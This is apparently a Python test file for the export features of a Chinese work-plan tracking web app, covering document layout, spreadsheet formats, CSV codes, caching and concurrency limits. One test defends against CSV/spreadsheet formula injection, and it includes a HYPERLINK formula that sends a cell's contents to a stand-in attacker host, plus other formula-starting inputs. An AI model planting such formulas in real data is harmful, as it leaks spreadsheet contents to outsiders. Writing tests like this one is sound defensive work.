"""Exports fit for the office, opened as a reader's program would: DOCX on A4 in the 编号|目标任务|完成情况|评估结论|
说明 layout with the unreported targets; xlsx with numbers as numbers, percentages, a frozen header, filters and
Chinese labels; CSV with the codes beside the labels; places as paragraphs, never offsets; no cell of report text
or review comment that a spreadsheet would run as a formula; exports built at most two at a time and kept per
data version."""

from __future__ import annotations

import csv
import io
import re
import threading
from collections.abc import Iterator

import pytest
from docx import Document as Docx
from docx.shared import Mm
from openpyxl import load_workbook

from duban.records import KIND_LABELS, STATUS_LABELS, TARGET_KIND_LABELS, TIER_LABELS
from duban.store.queries import run_table
from web_helpers import make_app, sign_in

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
PLAN = """某县人民政府2024年工作计划

二、2024年工作安排

2024年经济社会发展的主要预期目标是：地区生产总值增长6%左右。
全年新建公园5个。
@SUM(1)建设口袋公园8个。
"""
DONE = f"""某县2024年工作计划年度完成情况

| 编号 | 目标任务 | 完成情况 |
| 1 | 地区生产总值增长6%左右。 | {EVIL}全年地区生产总值增长6.2%。 |
| 2 | 全年新建公园5个。 | +SUM(1,2)全年新建公园6个。 |
"""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def run_id(ledger_db) -> int:
    """A run of the samples' 编号|目标任务|完成情况 table (004 → 001)."""
    with ledger_db.session() as s:
        return next(i for i in range(1, 100) if (t := run_table(s, i)) is not None and len(t.items) == 90)


@pytest.fixture(scope="module")
def evil(tmp_path_factory) -> Iterator:
    """A plan and completion table whose lines start like formulas, and a review comment that does."""
    from fastapi.testclient import TestClient

    from duban.ingest import ingest
    from duban.store import Database
    from duban.store.accounts import add_user

    folder = tmp_path_factory.mktemp("evil")
    (folder / "plan.txt").write_text(PLAN, encoding="utf-8")
    (folder / "done.txt").write_text(DONE, encoding="utf-8")
    db = Database(str(folder / "evil.sqlite"))
    report = ingest([folder / "plan.txt", folder / "done.txt"], db, jobs=1)
    assert not report.failed and report.runs_added == 1
    with db.session() as s:
        add_user(s, "alice", "secret123", "复核员")
    with TestClient(make_app(db)) as client:
        assert sign_in(client).status_code == 303
        token = client.get("/api/session").json()["csrf_token"]
        target = client.get("/api/targets", params={"q": "新建公园"}).json()["targets"][0]
        r = client.post(f"/api/targets/{target['id']}/reviews", json={"status": "met", "comment": EVIL},
                        headers={"X-CSRF-Token": token})
        assert r.status_code == 201, r.text
        client.target = target
        yield client
    db.dispose()


def _workbook(client, path: str):
    r = client.get(path)
    assert r.status_code == 200, r.text
    return load_workbook(io.BytesIO(r.content))


def _csv(client, path: str) -> list[list[str]]:
    r = client.get(path)
    assert r.status_code == 200
    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))


def test_no_formula_in_any_spreadsheet_cell(evil):
    for path in ("/export/targets.xlsx", "/export/runs/1.xlsx"):
        wb = _workbook(evil, path)
        texts = []
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(FORMULA_STARTS), (path, cell.value)
                        texts.append(cell.value)
        assert any(t.startswith("'" + EVIL) for t in texts), path  # kept, as text
    for path in ("/export/targets.csv", "/export/runs/1.csv"):
        rows = _csv(evil, path)
        fields = [f for row in rows for f in row]
        assert not [f for f in fields if f.startswith(FORMULA_STARTS)], path
        assert any(f.startswith("'" + EVIL) for f in fields), path
    reviewed = next(r for r in _csv(evil, "/export/targets.csv") if r[0] == str(evil.target["id"]))
    assert "'" + EVIL in reviewed
    # the JSON export keeps the text as it is (it is not a spreadsheet)
    assert any(t["review_comment"] == EVIL for t in evil.get("/export/targets.json").json()["targets"])


def test_run_docx_is_a4_in_the_office_layout(client, run_id):
    r = client.get(f"/export/runs/{run_id}.docx")
    doc = Docx(io.BytesIO(r.content))
    section = doc.sections[0]
    assert abs(section.page_width - Mm(210)) < Mm(1) and abs(section.page_height - Mm(297)) < Mm(1)
    table = doc.tables[0]
    assert [c.text for c in table.rows[0].cells] == ["编号", "目标任务", "完成情况", "评估结论", "说明"]
    assert len(table.rows) == 91
    widths = [c.width for c in table.rows[1].cells]
    usable = section.page_width - section.left_margin - section.right_margin
    assert abs(sum(widths) - usable) < Mm(2)  # the table fills the line, no wider
    assert widths[0] < widths[3] < widths[1] and widths[2] > widths[1]  # 编号 narrow, the texts wide
    assert table.rows[0]._tr.xpath("./w:trPr/w:tblHeader")  # the header repeats on every page
    assert {c.text for c in table.columns[3].cells[1:]} <= set(STATUS_LABELS.values())
    paragraphs = [p.text for p in doc.paragraphs]
    assert any(p.startswith("按目标计（每个计划目标计一次") for p in paragraphs)
    assert any(p.startswith("按条目计（本表共 90 行）") for p in paragraphs)
    heading = next(p for p in paragraphs if p.startswith("未见报告的目标（"))
    n = int(re.search(r"（(\d+) 项）", heading).group(1))
    listed = [p for p in paragraphs if re.match(r"^\d+\. 【", p)]
    assert n == len(listed) > 0 and all(re.search(r"（计划第\d+段）$", p) for p in listed)
    assert "主要指标" in listed[0]  # headline targets first


def test_run_xlsx_numbers_formats_and_labels(client, run_id):
    wb = _workbook(client, f"/export/runs/{run_id}.xlsx")
    assert wb.sheetnames[:3] == ["完成情况评估", "指标明细", "汇总"]
    ws = wb["完成情况评估"]
    header = [c.value for c in ws[1]]
    assert header[:4] == ["编号", "目标任务", "完成情况", "评估结论"] and "计划原文位置" in header
    assert ws.freeze_panes == "B2" and ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:")
    assert int(ws.page_setup.paperSize) == 9 and ws.print_title_rows  # 9: A4
    rows = list(ws.iter_rows(min_row=2))
    assert all(r[0].data_type == "n" and isinstance(r[0].value, int) for r in rows if "." not in str(r[0].value))
    ratio = header.index("完成比例")
    numeric = [r[ratio] for r in rows if isinstance(r[ratio].value, float)]
    assert len(numeric) > 10 and all(c.number_format == "0%" for c in numeric)
    assert {r[3].value for r in rows} <= set(STATUS_LABELS.values())
    where = [r[header.index("计划原文位置")].value for r in rows if r[header.index("计划原文位置")].value]
    assert where and all(re.fullmatch(r"第\d+段(、第\d+段)*", w) for w in where)  # not character offsets
    detail = wb["指标明细"]
    dh = [c.value for c in detail[1]]
    assert dh[:4] == ["编号", "指标", "目标值", "目标数值"]
    values = [r[dh.index("目标数值")].value for r in detail.iter_rows(min_row=2)]
    assert values and all(isinstance(v, (int, float)) for v in values)
    summary = {r[0].value: r for r in wb["汇总"].iter_rows(min_row=2)}
    assert set(summary) - {"合计"} <= set(STATUS_LABELS.values())
    assert summary["合计"][4].value == 90 and isinstance(summary["合计"][1].value, int)


def test_ledger_xlsx_numbers_and_chinese_labels(client):
    wb = _workbook(client, "/export/targets.xlsx?doc_kind=work_plan")
    ws = wb["目标台账"]
    header = [c.value for c in ws[1]]
    assert header[:3] == ["编号", "文件", "文件类型"] and {"层级", "原文位置", "当前结论"} <= set(header)
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:{ws.cell(1, len(header)).column_letter}{ws.max_row}"
    rows = [dict(zip(header, (c.value for c in r), strict=True)) for r in ws.iter_rows(min_row=2)]
    assert rows and all(isinstance(r["编号"], int) and isinstance(r["年份"], int) for r in rows)
    assert {r["文件类型"] for r in rows} == {KIND_LABELS["work_plan"]}
    assert {r["层级"] for r in rows} <= set(TIER_LABELS.values()) and {r["类型"] for r in rows} <= set(
        TARGET_KIND_LABELS.values())
    assert {r["当前结论"] for r in rows} <= set(STATUS_LABELS.values())
    assert all(re.fullmatch(r"第\d+段", r["原文位置"]) for r in rows)
    assert "quantitative" not in str(rows) and "work_plan" not in str(rows)


def test_csv_has_the_codes_beside_the_labels(client):
    rows = _csv(client, "/export/targets.csv?status=not_met")
    header = rows[0]
    for label, code in (("机器评估", "机器评估代码"), ("当前结论", "当前结论代码"), ("疑点标记", "疑点代码")):
        assert header.index(code) == header.index(label) + 1
    i = header.index("当前结论")
    assert rows[1:] and all(r[i] == "未完成" and r[i + 1] == "not_met" for r in rows[1:])
    table = _csv(client, "/export/runs/1.csv")
    assert table[0][3:5] == ["评估结论", "评估结论代码"]
    assert all(STATUS_LABELS[r[4]] == r[3] for r in table[1:])


def test_exports_are_kept_per_data_version(client):
    from duban.web.downloads import DOWNLOADS

    first = client.get("/export/targets.csv", params={"q": "就业"})
    kept = len(DOWNLOADS.files)
    again = client.get("/export/targets.csv", params={"q": "就业"})
    assert again.content == first.content and len(DOWNLOADS.files) == kept  # served from the kept file


def test_at_most_two_exports_are_built_at_once(app):
    """A third export while two are being built is refused with 429 and a Chinese message; the same export
    asked for meanwhile waits for the build instead."""
    from fastapi.testclient import TestClient

    from duban.web import downloads

    gate, started = threading.Event(), threading.Semaphore(0)
    real = downloads.Downloads._build

    def slow(self, build):
        started.release()
        gate.wait(30)
        return real(self, build)

    results: dict[str, int] = {}
    pool = downloads.Downloads()
    try:
        downloads.Downloads._build = slow
        original, downloads.DOWNLOADS = downloads.DOWNLOADS, pool
        import duban.web.exports as exports

        exports.DOWNLOADS = pool

        def get(name: str, path: str) -> None:
            with TestClient(app) as c:
                results[name] = c.get(path).status_code

        threads = [threading.Thread(target=get, args=(n, p)) for n, p in (
            ("a", "/export/targets.csv?q=建设"), ("b", "/export/targets.csv?q=发展"))]
        for t in threads:
            t.start()
        assert started.acquire(timeout=30) and started.acquire(timeout=30)  # two builds under way
        same = threading.Thread(target=get, args=("a2", "/export/targets.csv?q=建设"))
        same.start()
        with TestClient(app) as c:
            third = c.get("/export/targets.json?q=改革")
        assert third.status_code == 429 and "导出任务较多" in third.text  # a Chinese error page
        assert third.headers["retry-after"] == str(downloads.RETRY_AFTER)  # when to try again
        gate.set()
        for t in [*threads, same]:
            t.join(30)
        assert results == {"a": 200, "b": 200, "a2": 200}
    finally:
        gate.set()
        downloads.Downloads._build = real
        downloads.DOWNLOADS = exports.DOWNLOADS = original
